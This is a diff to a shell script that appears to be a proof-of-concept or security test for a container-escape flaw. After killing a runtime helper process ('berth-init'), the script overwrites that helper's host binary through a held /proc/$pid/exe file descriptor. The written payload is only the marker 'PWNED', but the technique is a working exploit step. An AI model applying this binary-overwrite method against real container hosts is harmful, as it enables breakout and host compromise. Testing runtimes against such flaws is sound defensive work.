@@ -26,13 +26,18 @@ while [ -z "$pid" ]; do
 done
 if [ -n "$pid" ]; then
   echo seen
-  exec 3< /proc/$pid/exe && echo opened-exe
-  kill -9 $pid
-  n=0
-  while [ -e /proc/$pid ] && [ $n -lt 3000 ]; do n=$((n+1)); sleep 0.02; done
-  # While berth-init itself runs from the same file the kernel answers "Text file busy":
-  # the file is writable and only waits for berth-init to exit.
-  if printf PWNED 1<> /proc/self/fd/3 2>/tmp/err; then echo wrote-exe; else cat /tmp/err; fi
+  # `command`: a failed open (the check already ended) must not end this shell.
+  if command exec 3< /proc/$pid/exe 2>/dev/null; then
+    echo opened-exe
+    kill -9 $pid
+    n=0
+    while [ -e /proc/$pid ] && [ $n -lt 3000 ]; do n=$((n+1)); sleep 0.02; done
+    # While berth-init itself runs from the same file the kernel answers "Text file busy":
+    # the file is writable and only waits for berth-init to exit.
+    if printf PWNED 1<> /proc/self/fd/3 2>/tmp/err; then echo wrote-exe; else cat /tmp/err; fi
+  else
+    echo check-gone-before-its-exe-was-opened
+  fi
 fi
 echo attack-done
 exec sleep 600
